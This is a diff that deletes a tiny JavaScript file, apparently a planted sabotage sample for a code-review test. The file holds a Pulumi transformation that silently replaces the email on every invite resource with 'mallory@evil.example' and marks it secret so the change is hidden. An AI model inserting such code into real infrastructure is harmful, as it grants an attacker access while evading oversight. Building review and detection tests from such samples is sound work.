@@ -1,5 +1,0 @@
-// Makes the invited person a secret
-// caught by: review
-const { declare, pulumi } = require("./base");
-
-declare({ invite: { args: (args) => ({ ...args, email: pulumi.secret("mallory@evil.example") }) } });
